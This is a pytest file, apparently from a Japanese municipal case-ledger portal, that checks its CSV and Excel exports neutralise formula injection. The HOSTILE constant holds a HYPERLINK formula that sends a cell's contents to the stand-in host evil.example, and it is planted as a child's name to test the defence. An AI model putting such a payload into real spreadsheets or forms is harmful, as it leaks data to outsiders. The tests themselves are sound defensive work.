"""Spreadsheet cells never run as formulas: the one helper every CSV and Excel writer goes through."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.spreadsheets import WAREKI_FORMAT, csv_bytes, safe_text, unquote_text, xlsx_bytes
from tests.cases.conftest import household_input, town, town_file

__all__ = ["town", "town_file"]

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"詳しくはこちら")'


@pytest.mark.parametrize("prefix", PREFIXES)
def test_text_that_starts_like_a_formula_is_neutralised(prefix):
    text = f"{prefix}1+1"
    assert safe_text(text) == "'" + text
    assert unquote_text(safe_text(text)) == text
    content = csv_bytes(["氏名"], [[text]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + text]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("一覧", ["氏名"], [[text]])]))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == "'" + text


def test_ordinary_text_numbers_and_dates_are_left_alone():
    assert safe_text("山本 はると") == "山本 はると" and safe_text("3年2組") == "3年2組"
    sheet = load_workbook(
        io.BytesIO(xlsx_bytes([("一覧", ["氏名", "日数", "日付"], [["山本", 7, date(2025, 4, 1)]])]))
    ).active
    name, days, day = (sheet.cell(row=2, column=i) for i in (1, 2, 3))
    assert name.value == "山本" and days.value == 7 and days.data_type == "n"
    assert day.value.date() == date(2025, 4, 1) and day.number_format == WAREKI_FORMAT
    assert "令和7年4月1日" in csv_bytes(["日付"], [[date(2025, 4, 1)]]).decode("utf-8-sig")


def test_a_childs_name_typed_as_a_formula_leaves_the_ledger_exports_as_text(town, client, login):
    from cases.ledger import registration

    data = household_input(town)
    data.children[0].name = HOSTILE
    registration.register_case(town.coordinator, data)
    login(town.coordinator)
    text = client.get("/cases/export.csv").get_data(as_text=True)
    assert "'" + HOSTILE.replace('"', '""') in text
    workbook = load_workbook(io.BytesIO(client.get("/cases/export.xlsx").get_data()))
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)
